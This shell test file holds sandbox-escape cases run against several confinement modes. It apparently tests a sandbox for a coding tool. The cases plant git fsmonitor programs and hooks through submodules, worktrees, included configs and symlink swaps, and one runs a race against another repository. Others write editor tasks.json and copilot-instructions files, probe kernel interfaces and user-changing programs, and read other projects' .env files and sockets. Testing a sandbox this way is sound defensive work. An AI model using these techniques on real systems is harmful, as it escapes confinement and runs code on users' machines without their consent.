# Attempts of a third round, in the format of cases.sh. All are harmless where they succeed: they touch only $ESC_TMP, take no device, signal nothing.
# Expectation order: off, read-only, workspace, strict, landlock.

# ---- G: git, and what others believe ----
planted() { rm -f "$ESC_TMP/ran"; (cd "$1" && HOME=$ESC_TMP/nohome ESC_RAN=$ESC_TMP/ran timeout 5 git status >/dev/null 2>&1); [[ -e $ESC_TMP/ran ]]; }
commit_in() { git -C "$1" -c user.name=x -c user.email=x@y commit -q --allow-empty -m first; }
submodule_at() { # submodule_at PATH: a submodule of the workspace, as `git submodule add` leaves it
  git_ws; git init -q "$ESC_TMP/lib.$$"; commit_in "$ESC_TMP/lib.$$"
  git -C "$ESC_WS" -c protocol.file.allow=always submodule --quiet add "$ESC_TMP/lib.$$" "$1" >/dev/null 2>&1; git -C "$ESC_WS" -c user.name=x -c user.email=x@y commit -qm sub; rm -rf "$ESC_TMP/lib.$$"; }
detect() { planted "$ESC_WS"; }
prepare() { submodule_at vendor/lib; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; printf '[core]\nfsmonitor=%s/x\n' \$PWD >>.git/modules/vendor/lib/config"; };  try G01 chhhc "the configuration of a submodule whose name has a slash"
prepare() { submodule_at one/two/three/lib; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; git init -q --bare ev; git --git-dir=ev config core.bare false; git --git-dir=ev config core.fsmonitor \$PWD/x; rm -f one/two/three/lib/.git; echo \"gitdir: \$PWD/ev\" >one/two/three/lib/.git"; };  try G02 chhhh "the .git file of a submodule deep below"
prepare() { git_ws; printf '[core]\n\thooksPath = .githooks\n' >"$ESC_WS/shared.gitconfig"; mkdir "$ESC_WS/.githooks"; git -C "$ESC_WS" config include.path ../shared.gitconfig; }
attempt() { echo "printf '$PLANT' >.githooks/pre-commit; chmod +x .githooks/pre-commit"; }
detect() { rm -f "$ESC_TMP/ran"; (cd "$ESC_WS"; ESC_RAN=$ESC_TMP/ran git -c user.name=x -c user.email=x@y commit -q --allow-empty -m y) >/dev/null 2>&1; [[ -e $ESC_TMP/ran ]]; };  try G03 chhhc "hooks that an included configuration names"
prepare() { git_ws; mkdir -p "$ESC_WS/.husky/_"; printf '#!/bin/sh\nexec sh .husky/pre-commit\n' >"$ESC_WS/.husky/_/pre-commit"; chmod +x "$ESC_WS/.husky/_/pre-commit"; echo : >"$ESC_WS/.husky/pre-commit"; git -C "$ESC_WS" config core.hooksPath .husky/_; }
attempt() { echo "printf '$PLANT' >.husky/pre-commit"; };                                    try G04 chhhc "what the hooks of husky start"
detect() { planted "$ESC_WS"; }
prepare() { git_ws; printf '#!/bin/sh\nexit 1\n' >"$ESC_WS/watch.sh"; chmod +x "$ESC_WS/watch.sh"; git -C "$ESC_WS" config core.fsmonitor './watch.sh --quiet'; }
attempt() { echo "printf '$PLANT' >watch.sh"; };                                             try G05 chhhc "a program of the workspace that the configuration starts with arguments"
prepare() { git_ws; rm -rf "$ESC_TMP/other"; git -C "$ESC_WS" worktree add -q "$ESC_TMP/other" >/dev/null 2>&1; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; mkdir -p ev/refs ev/objects; cp .git/HEAD ev/; printf '[core]\nrepositoryformatversion=0\nfsmonitor=%s/x\n' \$PWD >ev/config; echo \$PWD/ev >.git/worktrees/other/commondir"; }
detect() { planted "$ESC_TMP/other"; };                                                      try G06 chhhh "the worktree of somebody else, through .git/worktrees/NAME/commondir"
detect() { planted "$ESC_WS"; }
prepare() { git_ws; mv "$ESC_WS/.git" "$ESC_WS/repo"; ln -s repo "$ESC_WS/.git"; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; printf '[core]\nfsmonitor=%s/x\n' \$PWD >>.git/config; printf '[core]\nfsmonitor=%s/x\n' \$PWD >>repo/config"; };  try G07 chhhc ".git is a link into the workspace"
attempt() { echo "printf '$PLANT' >x; chmod +x x; rm .git; cp -r repo .git; printf '[core]\nfsmonitor=%s/x\n' \$PWD >>.git/config"; };  try G08 chhhc ".git is a link, and is replaced by a directory"
prepare() { git_ws; mkdir "$ESC_WS/myhooks"; rm -rf "$ESC_WS/.git/hooks"; ln -s ../myhooks "$ESC_WS/.git/hooks"; }
attempt() { echo "rm .git/hooks; mkdir .git/hooks; printf '$PLANT' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"; }
detect() { [[ -e $ESC_WS/.git/hooks/pre-commit ]]; };                                        try G09 chhhc "hooks that are a link are replaced by a directory"
prepare() { mkdir -p "$ESC_HOME/dotfiles/vscode"; ln -s "$ESC_HOME/dotfiles/vscode" "$ESC_WS/.vscode"; }
attempt() { echo "rm .vscode; mkdir .vscode; echo evil >.vscode/tasks.json"; }
detect() { [[ -e $ESC_WS/.vscode/tasks.json ]]; };                                           try G10 chhhc "an editor's folder that is a link out of the workspace is replaced"
none
attempt() { echo "mkdir .vscode; echo evil >.vscode/tasks.json; chmod 500 .vscode"; }
detect() { chmod 700 "$ESC_WS" "$ESC_WS/.vscode" 2>/dev/null; [[ -e $ESC_WS/.vscode/tasks.json ]]; };  try G11 chhhh "an editor's folder that its owner may not move"
attempt() { echo "mkdir .vscode; echo evil >.vscode/tasks.json; chmod 500 ."; }
try G12 chhhh "an editor's folder in a workspace that may not be written any more"
attempt() { echo "mkdir -p .github; echo evil >.github/copilot-instructions.md"; }; detect() { [[ -e $ESC_WS/.github/copilot-instructions.md ]]; };  try G13 chhhh "a protected name below a directory that was not there"
prepare() { mkdir -p "$ESC_WS/examples/vscode"; echo evil >"$ESC_WS/examples/vscode/tasks.json"; touch -d 2001-01-01 "$ESC_WS/examples/vscode"; sleep 0.2; }
attempt() { echo "mv examples/vscode .vscode"; }; detect() { [[ -e $ESC_WS/.vscode/tasks.json ]]; };  try G14 chhhh "an old directory gets the name of an editor's folder"
prepare() { rm -rf "$ESC_WS/.git"; here_git; }
detect() { planted "$ESC_WS"; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; git init -q .; printf '[core] fsmonitor=%s/x\n' \$PWD >>.git/config"; };  try G15 chhhh "a new repository whose configuration stands on the line of its section"
attempt() { echo "printf '$PLANT' >x; chmod +x x; git init -q .; printf '[include] path=%s/y\n' \$PWD >>.git/config; printf '[core]\nfsmonitor=%s/x\n' \$PWD >y"; };  try G16 chhhh "a new repository that includes another configuration"
attempt() { echo "printf '$PLANT' >x; chmod +x x; git init -q --bare b && mv b/HEAD b/objects b/refs b/config . && git config -f config core.bare false; git config -f config core.worktree \$PWD; git config -f config core.fsmonitor \$PWD/x"; };  try G17 chhhh "the workspace itself becomes a bare repository"
attempt() { echo "printf '$PLANT' >x; chmod +x x; git init -q --separate-git-dir=ev .; git config core.fsmonitor \$PWD/x"; };  try G18 chhhh "a new .git file"
prepare() { git_ws; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; mkdir -p sub; git init -q sub; git -C sub config core.fsmonitor \$PWD/x"; }
detect() { planted "$ESC_WS/sub"; };                                                         try G19 chhhh "a repository below whose configuration starts something"
attempt() { echo "mkdir -p q/b/c/d && git init -q q/b/c/d && printf '$PLANT' >x && chmod +x x && cd q/b/c/d && git config core.fsmonitor $ESC_WS/x && git -c user.name=x -c user.email=x@y commit -q --allow-empty -m s && cd ../../../.. && git update-index --add --cacheinfo 160000,\$(git -C q/b/c/d rev-parse HEAD),q/b/c/d"; }
detect() { planted "$ESC_WS"; };                                                             try G20 chhhh "a repository deep below that the index knows"
prepare() { git_ws; git -C "$ESC_WS" config extensions.worktreeConfig true; }
attempt() { echo "printf '$PLANT' >x; chmod +x x; printf '[core]\nfsmonitor=%s/x\n' \$PWD >.git/config.worktree"; };  try G21 chhhh "a configuration of the worktree that was not there"
prepare() { rm -rf "$ESC_WS/.git"; mkdir -p "$ESC_TMP/victim/.git/hooks"; printf '#!/bin/sh\n' >"$ESC_TMP/victim/.git/hooks/pre-commit"; }
attempt() { echo "mkdir -p real/.git/hooks; echo x >real/.git/hooks/pre-commit; mv real/.git .git; (setsid bash -c 'for i in {1..4000}; do mv -T .git away; ln -sT $ESC_TMP/victim/.git .git; rm .git; mv -T away .git; done' >/dev/null 2>&1 &) ; sleep 0.3"; }
detect() { [[ ! -e $ESC_TMP/victim/.git/hooks/pre-commit ]]; };                              try G22 hhhhh "the engine is led to another repository while it sets hooks aside"

# ---- M: more of the kernel ----
none
detect() { said "$CANARY"; }
prepare() { python_needed; }
attempt() { echo "python3 -c \"
import socket
for kind in (38,40,30,16):
  try: socket.socketpair(kind,2); print('$CANARY')
  except OSError: pass
  try: socket.socket(kind,5) and kind!=16 and print('$CANARY')
  except OSError: pass\""; };                                                                 try M01 ?hhhh "kinds of sockets that are seldom used (cryptography, vsock, TIPC), alone and in pairs"
sys "458,0,0,0,0";                                                                           try M03 ?hhhh "listmount"
prepare() { python_needed; }
attempt() { echo "python3 -c \"
import os,fcntl,pty,struct
m,s=pty.openpty()
fcntl.ioctl(s,0x5423,struct.pack('i',13)); print('$CANARY')\""; };                            try M04 ?hhhh "another line discipline (TIOCSETD)"
none
attempt() { echo "for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /sys/kernel/mm/ksm/run /sys/power/state /proc/sysrq-trigger /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do [ -w \$f ] && echo \"\$f $CANARY\"; done"; };  try M05 ${r}hhhh "switches in /proc and /sys"
attempt() { echo "mkdir /sys/fs/cgroup/esc /sys/fs/cgroup/*/esc 2>/dev/null && echo $CANARY"; };  try M06 ?hhhh "a control group of one's own"
prepare() { outside; python_needed; }
attempt() { echo "python3 -c \"
import ctypes
l=ctypes.CDLL(None,use_errno=True)
f=l.syscall(434,$OUT_PID,0)
if f>=0: print('$CANARY')\""; };                                                              try M07 chhhc "a descriptor of a process outside (pidfd; the lower tier shares process ids)"
prepare() { python_needed; }
attempt() { echo "python3 -c \"
import ctypes,os
l=ctypes.CDLL(None,use_errno=True)
f=l.memfd_create(b'x',0); os.write(f,open('/bin/true','rb').read()); os.fchmod(f,0o4755); print('$CANARY')\""; };  try M08 ?hhhh "a set-user-id program in memory"
none
attempt() { echo "sudo -n true 2>/dev/null && echo $CANARY; su -c true 2>/dev/null </dev/null && echo $CANARY; pkexec true 2>/dev/null </dev/null && echo $CANARY"; }; try M09 ?hhhh "programs that change the user"

# ---- S: sockets and files that come later, or under other names ----
listen_at() { cat >"$ESC_TMP/late2.py" <<'P'
import os, socket, sys
path, name = sys.argv[1:3]
s = socket.socket(1); s.bind(path); s.listen()
if name: os.rename(path, name)
open(os.environ['ESC_TMP'] + '/ready', 'w')
while True: c, _ = s.accept(); c.sendall(os.environ['CANARY'].encode()); c.close()
P
  rm -f "$ESC_TMP/ready"; background python3 "$ESC_TMP/late2.py" "$1" "$2"; within 200 test -e "$ESC_TMP/ready" || ESC_NEED="server did not start"; }
late_socket() { rm -f "$ESC_TMP/ready"; during "python3 $ESC_TMP/late.py $1 & until [ -e $ESC_TMP/ready ]; do sleep 0.05; done"; }
prepare() { python_needed; late_socket "$ESC_OUT/late.sock"; }
attempt() { then_when "[ ! -S $ESC_OUT/late.sock ]" "$(ask "$ESC_OUT/late.sock")"; };            try S01 chhhc "a socket outside the home that is made while a command runs"
prepare() { python_needed; mkdir -p "$ESC_HOME/proj"; late_socket "$ESC_HOME/proj/late.sock"; }
attempt() { then_when "[ ! -S $ESC_HOME/proj/late.sock ]" "$(ask "$ESC_HOME/proj/late.sock")"; };  try S02 chhhc "a socket in another project that is made while a command runs"
prepare() { python_needed; listen_at "$ESC_OUT/.tmp.sock" "$ESC_OUT/named.sock"; }
attempt() { ask "$ESC_OUT/named.sock"; };                                                    try S03 chhhc "a socket that was bound under another name"
prepare() { python_needed; ln -sfn "$ESC_OUT" "$ESC_TMP/way"; listen_at "$ESC_TMP/way/linked.sock" ""; }
attempt() { ask "$ESC_OUT/linked.sock"; };                                                   try S04 chhhc "a socket that was bound through a link"
prepare() { python_needed; listen_at "$ESC_OUT/hard.sock" ""; ln "$ESC_OUT/hard.sock" "$ESC_OUT/second.sock" || ESC_NEED="links to sockets"; }
attempt() { ask "$ESC_OUT/second.sock"; };                                                   try S05 chhhc "the second name of a socket"
prepare() { mkdir -p "$ESC_HOME/proj"; echo "$CANARY" >"$ESC_HOME/proj/.env.local"; }
attempt() { echo "cat $ESC_HOME/proj/.env.local"; };                                         try S06 chhhh "another project's .env.local"
prepare() { mkdir -p "$ESC_HOME/proj"; during "echo $CANARY >$ESC_HOME/proj/.env"; }
attempt() { then_when : "cat $ESC_HOME/proj/.env"; };                                 try S07 c??h? "another project's .env that comes into being"
